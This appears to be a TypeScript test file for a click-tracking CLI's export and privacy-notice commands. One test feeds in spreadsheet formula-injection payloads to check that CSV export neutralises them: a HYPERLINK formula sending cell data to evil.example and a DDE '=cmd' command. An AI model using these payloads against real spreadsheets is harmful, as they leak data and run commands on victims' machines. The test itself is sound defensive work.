/** `clickrelay export` and `clickrelay privacy-notice` through the real CLI. */
import { describe, expect, it } from 'vitest';
import type { PrivacyNotice } from '../../../src/notice/privacy-notice.js';
import type { ClickMetadata } from '../../../src/types.js';
import { parseCsv, unguard } from '../../unit/audit/csv-parse.js';
import { mixedClicks, policy, storedClick, tempDataDir, writeOutbox } from '../../unit/audit/helpers.js';
import { ackClicks } from '../../unit/outbox/helpers.js';
import { cli, dataDirEnv } from './cli.js';

const DAY = 86_400_000;
const T0 = Date.parse('2025-07-01T00:00:00.000Z');

describe('clickrelay export', () => {
  it('exports every row as NDJSON, one object per line, in position order', async () => {
    const dir = tempDataDir();
    const clicks = mixedClicks(40);
    await writeOutbox(dir, clicks, (o) => ackClicks(o, clicks.slice(0, 10).map((c) => c.click_id)));
    const r = await cli(['export'], dataDirEnv(dir));
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(''); // no progress bar when stderr is not a terminal
    const rows = r.stdout.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows.map((x) => x.click_id)).toEqual(clicks.map((c) => c.click_id));
    expect(rows.filter((x) => x.state === 'shipped')).toHaveLength(10);
    const anon = clicks.findIndex((c) => c.anonymous);
    expect(rows[anon]).toMatchObject({ anonymous: true, ip_address: null, session_id: null });
    const visitor = (m: ClickMetadata) => (m.scanner ? 'scanner' : m.bot ? 'bot' : 'human');
    expect(rows[0]).toEqual({ ...clicks[0], state: 'shipped', shipped_at: expect.stringMatching(/Z$/), visitor: visitor(clicks[0]!.metadata), scanner: clicks[0]!.metadata.scanner ?? null, country: null });
  });

  it('limits by --since (inclusive) and --until (exclusive)', async () => {
    const dir = tempDataDir();
    const clicks = Array.from({ length: 10 }, (_, i) => storedClick({ receivedAt: new Date(T0 + i * DAY) })); // 07-01 … 07-10
    await writeOutbox(dir, clicks);
    const ids = async (...args: string[]) => {
      const r = await cli(['export', '--format', 'csv', ...args], dataDirEnv(dir));
      expect(r.code).toBe(0);
      return parseCsv(r.stdout).slice(1).map((row) => row[0]);
    };
    expect(await ids()).toHaveLength(10);
    expect(await ids('--since', '2025-07-04')).toEqual(clicks.slice(3).map((c) => c.click_id));
    expect(await ids('--until', '2025-07-04')).toEqual(clicks.slice(0, 3).map((c) => c.click_id));
    expect(await ids('--since', '2025-07-03T00:00:00Z', '--until', '2025-07-05T12:00:00+02:00')).toEqual(clicks.slice(2, 5).map((c) => c.click_id));
    expect(await ids('--since', '2030-01-01')).toEqual([]);
  });

  it('writes RFC 4180 CSV that parses back to the stored values, hostile ones neutralised', async () => {
    const dir = tempDataDir();
    const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"open")', 'a,b', 'say "hi"', '-1+2', '@SUM(A1)', "'quoted"];
    // privacy.user_agent = "full" keeps whatever the client sent (cleaned of control characters):
    // the one stored column an attacker can make start with "="
    const full = policy({ user_agent: 'full' });
    const clicks = hostile.map((v, i) => storedClick({ userAgent: v, rawQuery: new URLSearchParams({ utm_source: v, utm_campaign: `c${i}` }).toString() }, full));
    // values the normalizer would clean, written as if stored by an older build: the export must still be safe
    clicks.push({ ...storedClick(), user_agent: 'line one\nline two, "quoted"', referrer_url: '=cmd|" /C calc"!A0' });
    await writeOutbox(dir, clicks);
    const r = await cli(['export', '--format', 'csv'], dataDirEnv(dir));
    expect(r.code).toBe(0);
    const [header, ...rows] = parseCsv(r.stdout);
    expect(header).toEqual(['click_id', 'tracking_id', 'clicked_at', 'ip_address', 'user_agent', 'referrer_url', 'session_id', 'click_source', 'metadata', 'anonymous', 'state', 'shipped_at', 'visitor', 'scanner', 'country']);
    expect(rows).toHaveLength(clicks.length);
    rows.forEach((row, i) => {
      const c = clicks[i]!;
      expect(row.map(unguard)).toEqual([
        c.click_id,
        c.tracking_id,
        c.clicked_at,
        c.ip_address ?? '',
        c.user_agent ?? '',
        c.referrer_url ?? '',
        c.session_id ?? '',
        c.click_source,
        JSON.stringify(c.metadata, Object.keys(c.metadata).sort()),
        String(c.anonymous),
        'pending',
        '',
        c.metadata.scanner ? 'scanner' : c.metadata.bot ? 'bot' : 'human',
        c.metadata.scanner ?? '',
        '',
      ]);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/); // no cell a spreadsheet would evaluate
    });
    expect(rows[0]![4]).toBe(`'${hostile[0]}`);
    expect(rows[6]![5]).toBe('\'=cmd|" /C calc"!A0');
    expect(r.stdout).toContain('"\'=cmd|"" /C calc""!A0"');
  });

  it('exits 2 with a clear message on a bad --since, --until or --format', async () => {
    const dir = tempDataDir();
    for (const [args, message] of [
      [['--since', 'yesterday'], '--since "yesterday" is not an ISO 8601 date or time'],
      [['--until', '2025-02-30'], '--until "2025-02-30" is not an ISO 8601 date or time'],
      [['--since', '2025-08-01', '--until', '2025-07-01'], 'is not before --until'],
      [['--format', 'xlsx'], '--format "xlsx" is not allowed (ndjson or csv)'],
    ] as const) {
      const r = await cli(['export', ...args], dataDirEnv(dir));
      expect({ args, code: r.code, stdout: r.stdout }).toEqual({ args, code: 2, stdout: '' });
      expect(r.stderr).toContain(message);
    }
  });

  it('exports nothing (and succeeds) before outbox.db exists; a CSV export still has its header', async () => {
    const dir = tempDataDir();
    expect(await cli(['export'], dataDirEnv(dir))).toEqual({ code: 0, stdout: '', stderr: '' });
    expect((await cli(['export', '--format', 'csv'], dataDirEnv(dir))).stdout).toMatch(/^click_id,.*,shipped_at,visitor,scanner,country\r\n$/);
  });
});

describe('clickrelay privacy-notice', () => {
  const notice = async (env: Record<string, string>) => {
    const r = await cli(['privacy-notice', '--format', 'json'], dataDirEnv(tempDataDir(), env));
    expect(r.code).toBe(0);
    return JSON.parse(r.stdout) as PrivacyNotice;
  };

  it('prints Markdown by default, generated from the configuration in force', async () => {
    const r24 = await cli(['privacy-notice'], dataDirEnv(tempDataDir()));
    const r16 = await cli(['privacy-notice'], dataDirEnv(tempDataDir(), { CLICKRELAY_PRIVACY_IPV4_PREFIX: '16' }));
    expect(r24.code).toBe(0);
    expect(r24.stdout).toMatch(/^# Privacy notice/);
    expect(r24.stdout).toContain('IPv4 truncated to /24: 203.0.113.77 → 203.0.113.0');
    expect(r16.stdout).toContain('IPv4 truncated to /16: 203.0.113.77 → 203.0.0.0');
    expect(r24.stdout).toContain('Nowhere: standalone');
  });

  it('changes with dnt_mode, referrer and the main system', async () => {
    const n = await notice({ CLICKRELAY_PRIVACY_DNT_MODE: 'drop', CLICKRELAY_PRIVACY_REFERRER: 'none', CLICKRELAY_MAIN_SYSTEM_BASE_URL: 'https://jobs.example.com' });
    expect(n.do_not_track.mode).toBe('drop');
    expect(n.fields.find((f) => f.field === 'referrer_url')!.stored).toBe('never');
    expect(n.recipients.main_system_host).toBe('jobs.example.com');
    expect(n.settings['main_system.base_url']).toBe('https://jobs.example.com');
  });

  it('exits 2 on an unknown format', async () => {
    const r = await cli(['privacy-notice', '--format', 'pdf'], dataDirEnv(tempDataDir()));
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--format "pdf"');
  });
});
